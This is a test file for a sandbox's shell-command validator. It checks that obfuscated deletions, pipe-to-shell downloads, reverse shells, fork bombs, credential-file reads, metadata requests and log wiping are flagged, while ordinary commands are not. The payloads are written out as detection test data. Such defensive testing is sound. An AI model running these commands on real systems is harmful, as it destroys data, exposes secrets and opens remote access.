"""What the shell validator finds: through quotes, wrappers and pipes, and nothing in plain work."""

from __future__ import annotations

import contextlib
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sandbox_kernel.policy import shell
from sandbox_kernel.policy.source import Unreadable
from sandbox_kernel.policy.verdict import Embedded, Hit


def rules(text: str) -> set[str]:
    return {
        item.rule.removeprefix("shell.") for item in shell.examine(text) if isinstance(item, Hit)
    }


def commands(text: str) -> list[str]:
    return [
        item.about
        for item in shell.examine(text)
        if isinstance(item, Hit) and item.rule == "shell.command"
    ]


def embedded(text: str) -> list[tuple[str, str]]:
    return [
        (item.language, item.text.strip())
        for item in shell.examine(text)
        if isinstance(item, Embedded)
    ]


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf /",
        "/bin/rm -rf /",
        r"\rm -rf /",
        'r"m" -rf /',
        "r''m -rf /",
        r"r\m -rf /",
        "r\\\nm -rf /",
        r"$'\x72\x6d' -rf /",
        r"$'\162m' -rf /",
        '$"rm" -rf /',
        "rm${IFS}-rf${IFS}/",
        "rm$IFS-rf$IFS/",
        "{rm,-rf,/}",
        "r$@m -rf /",
        "${unset:-rm} -rf /",
        "a=rm; $a -rf /",
        "a=r; b=m; $a$b -rf /",
        'c="rm -rf /"; $c',
        "IFS=,; x=rm,-rf,/etc; $x",
        "if true; then a=ls; else a=rm; fi; $a -rf /",
        "for c in ls rm; do $c -rf /; done",
        "$(echo rm) -rf /",
        "`printf 'r%s' m` -rf /",
        "$(echo mr | rev) -rf /",
        "x=$(which rm); $x -rf /",
        "X=RM; ${X,,} -rf /",
        "echo hi > /dev/null; >out rm -rf /",
        "> out 2>&1 rm -rf /",
        "rm > out -rf /",
        "true && (cd x; { rm -rf /; })",
        "if rm -rf /; then :; fi",
        "f() { rm -rf /; }; f",
        "echo $(rm -rf /)",
        "echo `rm -rf /`",
        'echo "a $(rm -rf /) b"',
        "cat <(rm -rf /)",
        "cat <<END\n$(rm -rf /)\nEND",
        "rm -r -f --no-preserve-root x",
        "rm -rf ~",
        'rm -rf "$HOME"',
        "rm -rf ${HOME}/*",
        "rm -rf *",
        "rm -rf ..",
        "rm -rf /etc /tmp/x",
        "rm -rf /tmp/../usr",
        "find / -name x -delete",
        "find /etc -exec rm -rf {} +",
        "echo / | xargs rm -rf",
    ],
)
def test_deletion_of_everything_is_seen_in_each_form(text: str) -> None:
    assert "delete_system" in rules(text)
    assert "rm" in commands(text) or "-delete" in text


@pytest.mark.parametrize(
    "options",
    [
        "-c 'reboot'",
        "-ce 'reboot'",
        "-ec 'reboot'",
        "-c -e 'reboot'",
        "-o pipefail -c 'reboot'",
        "-O extglob -c 'reboot'",
        "+o posix -c 'reboot'",
        "-euo pipefail -c 'reboot'",
        "-co pipefail 'reboot'",
        "--rcfile x -c 'reboot'",
        "--norc --noprofile -c 'reboot'",
        "-c'reboot now'",
        "-c -- 'reboot'",
        "-x <<< 'reboot'",
        "-o pipefail <<< 'reboot'",
        "-s -- x <<< 'reboot'",
    ],
)
def test_the_code_of_a_shell_is_found_behind_its_options(options: str) -> None:
    assert "reboot" in commands(f"bash {options}")


@pytest.mark.parametrize("options", ["-o pipefail x.sh -c 'reboot'", "x.sh -c reboot", "-n reboot"])
def test_what_follows_a_script_is_no_code(options: str) -> None:
    assert commands(f"bash {options}") == ["bash"]


@pytest.mark.parametrize(
    "options",
    [
        "-c 'f()'",
        "-c'f()'",
        "-Ic 'f()'",
        "-W ignore -c 'f()'",
        "-Wignore -c 'f()'",
        "-X dev -c 'f()'",
        "-BX dev -c 'f()'",
        "--check-hash-based-pycs always -c 'f()'",
        "-u -W ignore <<< 'f()'",
    ],
)
def test_the_code_of_python_is_found_behind_its_options(options: str) -> None:
    found = [item for item in shell.examine(f"python3 {options}") if isinstance(item, Embedded)]
    assert [(item.language, item.text.strip()) for item in found] == [("python", "f()")]


@pytest.mark.parametrize("options", ["x.py -c 'f()'", "-m pip -c x", "-W ignore x.py", "-m pytest"])
def test_arguments_of_a_script_are_not_read_as_python(options: str) -> None:
    assert not [item for item in shell.examine(f"python3 {options}") if isinstance(item, Embedded)]


@pytest.mark.parametrize(
    "wrapper",
    [
        "sudo",
        "sudo -u root -- ",
        "env A=1 B=2",
        "env -i",
        "nohup",
        "time -p",
        "timeout -s KILL 5",
        "nice -n 10",
        "ionice -c 3",
        "exec",
        "exec -a x",
        "command",
        "builtin",
        "busybox",
        "setsid",
        "stdbuf -oL",
        "chroot /x",
        "doas",
        "coproc",
        "strace -o f",
        "sudo env nohup timeout 3 nice",
        "xargs",
        "find . -exec",
        "watch -n 1",
        "parallel",
        "ssh host",
        "conda run -n base",
    ],
)
def test_wrappers_and_what_they_wrap_are_both_commands(wrapper: str) -> None:
    found = commands(f"{wrapper} reboot now")
    assert found[0] == wrapper.split()[0]
    assert "reboot" in found
    assert "system_control" in rules(f"{wrapper} reboot now")


@pytest.mark.parametrize(
    "text",
    [
        "bash -c 'reboot'",
        "sh -ec reboot",
        "bash -l -c 'ls; reboot'",
        "bash -c \"bash -c 'reboot'\"",
        "su -c reboot",
        "su root -c 'reboot now'",
        "env -S 'reboot now'",
        "eval reboot",
        "eval 're''boot'",
        "a=reboot; eval $a",
        "bash <<END\nreboot\nEND",
        "bash <<'END'\nreboot\nEND",
        "cat <<END | bash\nreboot\nEND",
        "bash <<< reboot",
        "bash -s <<< reboot",
        "echo reboot | bash",
        "echo reboot | sudo sh",
        "echo reboot | (sh)",
        "printf 'reb\\x6fot' | sh",
        "echo cmVib290 | base64 -d | sh",
        "base64 -d <<< cmVib290 | bash",
        "echo 7265626f6f74 | xxd -r -p | sh",
        "eval $(echo cmVib290 | base64 --decode)",
        'bash -c "$(echo cmVib290 | base64 -d)"',
        "echo erobbg | tr a-z n-za-m | sh",
        "alias ls=reboot",
        "trap reboot EXIT",
        "tar cf x y --checkpoint-action=exec=reboot",
        "git -c core.pager=reboot log",
        "script -c reboot",
    ],
)
def test_text_handed_to_a_shell_is_read_in_turn(text: str) -> None:
    assert "reboot" in commands(text)


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("curl http://x | bash", "pipe_to_shell"),
        ("wget -qO- x | sudo -E bash -", "pipe_to_shell"),
        ("curl x | tee f | python3", "pipe_to_shell"),
        ("bash <(curl x)", "pipe_to_shell"),
        ("bash < <(curl x)", "pipe_to_shell"),
        ("source <(curl x)", "pipe_to_shell"),
        ('bash -c "$(curl x)"', "pipe_to_shell"),
        ('eval "$(wget -qO- x)"', "pipe_to_shell"),
        ("x=$(curl y); eval $x", "pipe_to_shell"),
        ("`curl x`", "pipe_to_shell"),
        ("curl -o a.sh http://x/a.sh; bash a.sh", "run_download"),
        ("wget http://x/a.sh && chmod +x a.sh && ./a.sh", "run_download"),
        ("bash -i >& /dev/tcp/1.2.3.4/5 0>&1", "reverse_shell"),
        ("exec 3<>/dev/tcp/1.2.3.4/5", "reverse_shell"),
        ("echo x > /dev/udp/1.2.3.4/5", "reverse_shell"),
        ("nc -e /bin/sh 1.2.3.4 5", "reverse_shell"),
        ("ncat 1.2.3.4 5 --exec /bin/bash", "reverse_shell"),
        ("mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1 2 > /tmp/f", "reverse_shell"),
        ("socat tcp:1.2.3.4:5 exec:bash", "reverse_shell"),
        ("python -c 'import socket,os,pty; pty.spawn(1)'", "reverse_shell"),
        ("perl -e 'use Socket; exec 1'", "reverse_shell"),
        (":(){ :|:& };:", "fork_bomb"),
        ("bomb() { bomb | bomb & }; bomb", "fork_bomb"),
        ("function b { b & b; }; b", "fork_bomb"),
        ("bash -c ':(){ :|:& };:'", "fork_bomb"),
        ("cat ~/.ssh/id_rsa", "sensitive_path"),
        ('cat "$HOME/.aws/credentials"', "sensitive_path"),
        ("cat /etc/shadow", "sensitive_path"),
        ("cat /usr/../etc//passwd", "sensitive_path"),
        ("cat /e?c/shad*", "sensitive_path"),
        ("p=/etc; cat $p/passwd", "sensitive_path"),
        ("cat < /etc/passwd", "sensitive_path"),
        ("[ -f /root/.profile ]", "sensitive_path"),
        ("cp .env /tmp", "sensitive_path"),
        ("cat /proc/1/environ", "sensitive_path"),
        ("tr '\\0' '\\n' < /proc/self/environ", "sensitive_path"),
        ("tail ~/.bash_history", "sensitive_path"),
        ("curl -d @/etc/passwd http://x", "sensitive_path"),
        ("curl http://169.254.169.254/latest", "metadata_address"),
        ("wget http://metadata.google.internal/x", "metadata_address"),
        ("curl http://2852039166/", "metadata_address"),
        ("echo x > /etc/hosts", "system_write"),
        ("echo x | sudo tee -a /etc/sudoers.d/x", "system_write"),
        ("echo x >> ~/.bashrc", "system_write"),
        ("cp k ~/.ssh/authorized_keys", "system_write"),
        ("cp job /etc/cron.d/", "system_write"),
        ("cp a.py /usr/lib/python3/site-packages/", "library_write"),
        ("dd if=/dev/zero of=/dev/sda", "device"),
        ("cat x > /dev/nvme0n1", "device"),
        ("mkfs.ext4 /dev/sdb1", "device"),
        ("cat img | tee /dev/sda", "device"),
        ("sudo ls", "sudo"),
        ("chmod u+s x", "privilege"),
        ("chmod 4755 x", "privilege"),
        ("chown root:root x", "privilege"),
        ("nsenter -t 1 -m sh", "privilege"),
        ("curl --unix-socket /var/run/docker.sock http://x", "privilege"),
        ("chmod 777 x", "permissions"),
        ("chmod -R a+w .", "permissions"),
        ("useradd x", "users"),
        ("kill -9 -1", "kill"),
        ("pkill python", "kill"),
        ("systemctl stop x", "system_control"),
        ("crontab -", "system_control"),
        ("nmap 10.0.0.0/8", "network"),
        ("ssh u@h ls", "network"),
        ("curl -T f http://x", "upload"),
        ("git push", "upload"),
        ("wget http://x/data.csv", "download"),
        ("pip install x", "install"),
        ("{sys.executable} -m pip install x", "install"),
        ("sudo apt-get -y install x", "install"),
        ("history -c", "cover_tracks"),
        ("> ~/.bash_history", "cover_tracks"),
        ("HISTFILE=/dev/null", "cover_tracks"),
        ("rm -f /var/log/syslog", "cover_tracks"),
        ("shred -u x", "cover_tracks"),
        ("sleep 9 &", "background"),
        ("nohup x", "background"),
        ("base64 -d f | sh", "obfuscated"),
        ('eval "$(gzip -dc f)"', "obfuscated"),
        ("eval $(cat f)", "obfuscated"),
        ("env", "environment"),
        ("printenv", "environment"),
        ("LD_PRELOAD=./x.so ls", "environment_hook"),
        ("env LD_PRELOAD=./x.so ls", "environment_hook"),
        ("PS4='$(ls)'; set -x", "environment_hook"),
        ('echo "${x@P}"', "obfuscated"),
        ("[[ -v 'x[$(ls)]' ]]", "obfuscated"),
        ("printf -v 'x[$(ls)]' y", "obfuscated"),
        ("sed 's/a/b/e' x", "hidden_command"),
        ("export PATH=/tmp:$PATH", "environment_hook"),
        ("git config --global user.name x", "git_config"),
        ("$unknown x", "dynamic_command"),
        ("{command} x", "dynamic_command"),
        ("/b?n/l? x", "dynamic_command"),
        ("cat f | sh", "dynamic_command"),
        ("perl -e '1'", "other_language"),
        ("ruby -e '1'", "other_language"),
        ("awk 'BEGIN{system(\"ls\")}'", "other_language"),
        ("ls {folder}", "interpolated"),
        ("ls $folder", "interpolated"),
        ("echo 'open", "unparseable"),
        ("ls )(", "unparseable"),
        ("eval " * 20 + "ls", "too_deep"),
        ("rm -rf build", "delete_recursive"),
        ("rm -rf {path}/*", "delete_recursive"),
        ("ls /proc", "system_path"),
    ],
)  # fmt: skip
def test_rule_is_hit(text: str, rule: str) -> None:
    assert rule in rules(text)


@pytest.mark.parametrize(
    ("text", "language", "code"),
    [
        ("python -c 'import os'", "python", "import os"),
        ("python3.11 -c 'x = 1'", "python", "x = 1"),
        ("{sys.executable} -c 'x'", "python", "x"),
        ("python <<END\nx = 1\nEND", "python", "x = 1"),
        ("python3 - <<'END'\nprint($x)\nEND", "python", "print($x)"),
        ("python <<-END\n\tx = 1\n\ty = 2\n\tEND", "python", "x = 1\ny = 2"),
        ("echo 'x = 1' | python", "python", "x = 1"),
        ("sudo timeout 3 python -c x", "python", "x"),
        ("bash -c 'python -c x'", "python", "x"),
        ('python -c "print($x)"', "python", "print(unknown_value)"),
        ("node -e 'alert(1)'", "javascript", "alert(1)"),
        ("node --eval 'a' ", "javascript", "a"),
    ],
)
def test_code_of_another_language_is_handed_on(text: str, language: str, code: str) -> None:
    assert (language, code) in embedded(text)


@pytest.mark.parametrize(
    "text",
    [
        "ls -la",
        "pwd",
        "head -4 data/heights.csv",
        "wc -l *.txt | sort -n > counts.txt",
        "mkdir -p out && cp -r a/* out/",
        "cat {file} | grep -v '^#' | awk '{print $1}'",
        "unzip -o {os.path.basename(url)} -d {folder}",
        'echo {"%02d" % i} - "{os.path.splitext(f)[0]}"',
        "rm paper.zip *.tmp",
        "tar xzf a.tgz -C data",
        "java Sudoku -grid < in.txt > out.txt 2>&1",
        "[ -e words.txt ] || echo none",
        "python train.py --lr 0.1 --name \"it's\"",
        "cd x && git status",
        "chmod +x run.sh",
        "sed -i 's/a/b/' model.xml",
        "echo \"see http://x/rm -rf / for details\"",
        "grep -r 'passwd' src",
        "kill 4711",
        "nvidia-smi  # GPU info",
        "export OMP_NUM_THREADS=4",
        "for i in 1 2 3; do echo $i; done",
        "python -m spacy validate",
        "type svn > /dev/null",
        "jupyter nbconvert --to html 'My Notebook.ipynb'",
        'eval "$(conda shell.bash hook)"',
        "dd if=/dev/zero of=test.img bs=1M count=1",
        "find . -name '*.py' | xargs wc -l",
        "df -h; free -g; nproc",
        "cat /proc/cpuinfo /etc/os-release",
        "/bin/ls /tmp/x /usr/local/share",
        "echo '{\"a\": [1, 2]}' > x.json",
    ],
)  # fmt: skip
def test_ordinary_commands_hit_no_rule_but_their_names(text: str) -> None:
    assert rules(text) <= {"command", "interpolated", "python.write_file"}


@pytest.mark.parametrize(
    ("text", "writes"),
    [
        ("echo x > y", True),
        ("ls >> y 2>&1", True),
        ("ls &> y", True),
        ("ls >| y", True),
        ("ls > /tmp/y", True),
        ("ls > /dev/null", False),
        ("ls 2>&1 | wc", False),
        ("ls >&2", False),
        ("wc < y", False),
    ],
)
def test_a_redirection_writes_a_file_unless_there_is_none(text: str, writes: bool) -> None:
    assert ("python.write_file" in rules(text)) == writes


@pytest.mark.parametrize(
    ("text", "is_hook"),
    [
        ("printf -v PATH .", True),
        ("printf -vPATH %s .", True),
        ("for PATH in /usr/bin .; do ls; done", True),
        ("printf -v PS4 '%d$(id)' 1", True),  # what it comes to is not known
        ("read PS4", True),
        ("printf -v PATH /usr/bin", False),
        ("for f in *.csv; do cat $f; done", False),
        ("printf -v n '%03d' 7", False),
        ("printf '%s' PATH .", False),
    ],
)
def test_a_variable_that_is_set_by_its_name_is_set(text: str, is_hook: bool) -> None:
    assert ("environment_hook" in rules(text)) == is_hook


@pytest.mark.parametrize("text", ["printf -v c %s rm; $c x", "printf -v c '%s%s' r m; $c x"])
def test_what_printf_makes_of_texts_is_known(text: str) -> None:
    assert "rm" in commands(text)


@pytest.mark.parametrize("text", ["printf -v c %.1s ls; $c x", "printf -v c %c ls; $c x"])
def test_what_else_printf_makes_is_not(text: str) -> None:
    assert "dynamic_command" in rules(text)


@pytest.mark.parametrize(
    "text",
    [
        "cat <<E\n`reboot`\nE",
        "cat <<-E\n\t`reboot`\n\tE",
        "cat <<-E\n\ta $(reboot now) b\n\tE",
        'cat <<E\n"$(reboot)" ${x:-`ls`}\nE',
        "cat <<E\n${x:-`reboot`}\nE",
        "cat <<E\n$(ls)`reboot\nE",
        'echo "${x:-`reboot`}"',
        "echo ${x:-`reboot -f now`}",
        "echo ${x:+`reboot`}",
        "echo ${x:=`reboot`}",
        "echo ${x-`reboot`}",
        "echo ${x#`reboot`}",
        "echo ${x/a/`reboot`}",
        "echo ${x:-${y:-`reboot`}}",
        "echo $(echo ${y:-`reboot`})",
        "ls > ${x:-`reboot`}",
        "echo `ls \\`reboot\\``",
        "echo \"${x:-'$(reboot)'}\"",
        "[[ -v 'x[$(reboot)]' ]]",
        "[ -v 'x[`reboot`]' ]",
        "test -v 'x[$(reboot)]'",
        "printf -v 'x[$(reboot)]' y",
        "[[ 'x[$(reboot)]' -eq 1 ]]",
        "read 'x[$(reboot)]'",
        "unset 'x[$(reboot)]'",
        "let 'x[$(reboot)]=1'",
        "((x['$(reboot)']))",
        "x='a[$(reboot)]'; ((x))",
        "sed '1e reboot' x",
        "sed -n '/a/I,\\|b|!{s/a/b/g;e reboot\n}' x",
        "sed -e 's/a/b/' -ne 's,a,reboot,pe' x",
        "sed --expression='e reboot' x",
    ],
)
def test_commands_that_are_expanded_late_are_found(text: str) -> None:
    assert "reboot" in commands(text)


@pytest.mark.parametrize(
    "text",
    [
        "cat <<'E'\n`reboot` $(reboot)\nE",
        'cat <<"E"\n`reboot`\nE',
        "cat <<\\E\n`reboot`\nE",
        "cat <<E\n\\`reboot\\`\nE",
        "echo 'x[$(reboot)]' '`reboot`'",
        "awk '{a[$(NF-1)]++}' x",
        "grep 'x[`]' y",
        "test -v x && [[ $a == b[c] ]]",
        "sed -i 's/e reboot/x/;y/abc/def/;a e reboot' e.txt",
        "sed -f e reboot",
        "sed -n '$p;1,3d;/e/d;b end;:end' reboot",
    ],
)
def test_text_that_is_not_expanded_holds_no_command(text: str) -> None:
    assert "reboot" not in commands(text)
    assert rules(text) <= {"command", "interpolated"}


@pytest.mark.parametrize(
    "text",
    ["./cat x", "/tmp/cat x", "~/cat x", "bin/cat x", "/usr/bin/../../tmp/cat", "sudo ./cat"],
)
def test_a_command_by_its_path_is_another_than_that_of_its_name(text: str) -> None:
    path = text.removeprefix("sudo ").split()[0]
    assert commands(text)[-2:] == ["cat", path]


@pytest.mark.parametrize(
    "text",
    ["/bin/cat", "/usr/bin/cat", "/usr//local/bin/cat", "PATH=$PATH:/x cat", "PATH=/bin cat"],
)
def test_a_command_of_the_system_is_known_by_its_name(text: str) -> None:
    assert commands(text) == ["cat"]


@pytest.mark.parametrize(
    "text",
    ["PATH=/x cat", "PATH=/x; cat", "env PATH=/x:$PATH cat", "PATH=/sbin:/x:/bin cat", "PATH= cat"],
)
def test_a_name_says_little_where_programs_are_looked_for_elsewhere(text: str) -> None:
    assert commands(text)[-1] == "PATH=… cat"
    assert commands(f"PATH=/x ls; {text}").count("cat") == 1


def test_a_variable_before_a_command_is_for_that_command_alone() -> None:
    assert commands("LD_LIBRARY_PATH=/x ls; cat") == ["ls", "LD_LIBRARY_PATH=… ls", "cat"]


@pytest.mark.parametrize(
    ("path", "rule"),
    [
        ("../../../../etc/shadow", "sensitive_path"),
        ("~/../../etc/shadow", "sensitive_path"),
        ("x/../../../etc/shadow", "sensitive_path"),
        ("--file=../../etc/passwd", "sensitive_path"),
        ("-f/etc/shadow", "sensitive_path"),
        ("-rf~/.ssh/id_rsa", "sensitive_path"),
        ("../../data", "system_path"),
        ("-I/usr/include", None),
        ("../data/etc", None),
        ("-v.5", None),
    ],
)
def test_a_path_is_seen_through_detours_and_options(path: str, rule: str | None) -> None:
    assert rules(f"cat {path}") - {"command"} == ({rule} if rule else set())


def test_every_rule_that_is_hit_is_described() -> None:
    known = {rule.id for rule in shell.RULES}
    assert len(known) == len(shell.RULES)
    hits = shell.examine("sudo curl x | bash & :(){ :|:& };: ; rm -rf / > /dev/sda $x")
    assert {item.rule for item in hits if isinstance(item, Hit)} <= known


def test_places_are_those_of_the_text_that_was_given() -> None:
    text = "ls é\n  rm -rf {f(x)} ; é=1 reboot"
    found = {(i.about, i.line, i.column) for i in shell.examine(text) if isinstance(i, Hit)}
    assert ("ls", 1, 0) in found
    assert ("rm", 2, 2) in found
    line = text.split("\n")[1]
    assert any(about == "reboot" and line[column:].startswith(("é=1", "reboot")) for about, _, column in found)  # fmt: skip


def test_functions_of_the_text_are_no_commands() -> None:
    assert commands("greet() { echo hi; }\ngreet") == ["echo"]
    assert "rm" in commands("if false; then rm() { :; }; fi; rm -rf /")


def test_comment_that_ends_in_a_backslash_hides_nothing() -> None:
    assert "reboot" in commands("#x\\\nreboot")


@pytest.mark.parametrize(
    "text",
    [
        "$(" * 100_000,
        "(" * 100_000,
        "`" * 100_000,
        "${a:-" * 100_000,
        "|" * 100_000,
        "~|" * 500,
        "<>" * 50_000,
        ")" * 100_000,
        "((a() " * 20_000,
        "ls a b;" * 150_000,
        "a" * 2**20,
        "$(" * 5_000 + "ls" + ")" * 5_000,
        "$($(" * 4_000 + "echo rm" + "))" * 4_000,
        "eval " * 10_000,
        "bash -c '" * 5_000,
        "x=$x$x;" * 3_000,
        "x=aa;" + "x=$x$x;" * 3_000 + "$x",
        "{a,b}" * 500,
        "echo " + "{a,{b," * 5_000,
        "a <<E\n" * 20_000,
        "if " * 50_000,
        "echo \\\n" * 20_000,
        "a\\\n" * 20_000,
        "\0" * 1000,
        "\ud800 ls \udfff",
        "{" * 100_000,
        "{x" * 50_000 + "}" * 50_000,
        "{x(" * 20_000,
        "ls `" + "| bash" * 80 + " `echo \\`ls\\``x",
        "sed 's" + "a" * 8_000 + "'",
        "sed " + "s/a/b/e;" * 1_000,
        "sed -e s/a/b/e " * 500,
        "find " + "-exec a " * 1_000,
        "find -exec " * 700,
        "x=" + "a" * 2_000 + ";y=${x//a/" + "b" * 2_000 + "};z=${y//b/" + "c" * 2_000 + "};$z",
        "echo " + "a" * 3_000 + " | xargs -I a xargs -I b " + "a" * 3_000,
        "a0=aaaa;" + "".join(f"a{n}=$a{n - 1}$a{n - 1};" for n in range(1, 30)) + "echo $a29 " * 800,
        "echo " + "{,,,,,,,,,,,,,,,,,,,}{,,,,,,,,,,,,,,,,,,,,} " * 180,
        "awk '" + "print " * 1_300 + "'",
        "python -c '" + "socket net " * 700 + "'",
        "(a|" * 1_300 + "a" + ")" * 1_300,
        "f() { " * 900 + "a" + "; }" * 900,
        "$((a+" * 1_300 + "1" + "))" * 1_300,
        "cat <<E\n" + "`a` $(a) " * 800 + "\nE",
        "cat <<E\n" + "$('" * 2_500 + "\nE",
        "echo " + "${a:-`b`}" * 900,
        "echo " + "${a:-`" * 1_300,
        "test -v '" + "a[" * 4_000 + "$(b)'",
        "IFS=" + "".join(map(chr, range(0x400, 0x1000))) + ";a=b;" + "echo $a " * 500,
    ],
    ids=lambda text: text[:12].encode("unicode_escape").decode(),
)  # fmt: skip
def test_hostile_shapes_are_answered_in_bounded_time(text: str) -> None:
    shell.examine("ls")  # the grammar is loaded
    start = time.thread_time()
    with contextlib.suppress(Unreadable):
        assert isinstance(shell.examine(text), list)
    assert time.thread_time() - start < 1


def test_reading_ends_at_the_deadline() -> None:
    shell.examine("ls", time.thread_time() + 60)
    with pytest.raises(Unreadable):
        shell.examine("ls", time.thread_time())


TOKENS = st.sampled_from(
    [
        *"|&;<>(){}[]$`\"'\\\n#!*?~=é\0\ud800",
        *("<<", "$(", "${", "[[", "if", "then", "fi", "do", "case", "in", "for", "function", "$x"),
        *("rm", "-rf", "/", "bash", "-c", "eval", "echo", "sudo", "xargs", "x=1", "{x}", "<<E\n"),
    ]
)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(TOKENS, max_size=40).map(" ".join)
    | st.lists(TOKENS, max_size=40).map("".join)
    | st.text()
)
def test_any_text_gives_a_list_or_is_unreadable(text: str) -> None:
    try:
        items = shell.examine(text)
    except Unreadable:
        return
    lines = text.split("\n")
    for item in items:
        assert 1 <= item.line <= len(lines)
        assert 0 <= item.column <= len(lines[item.line - 1])
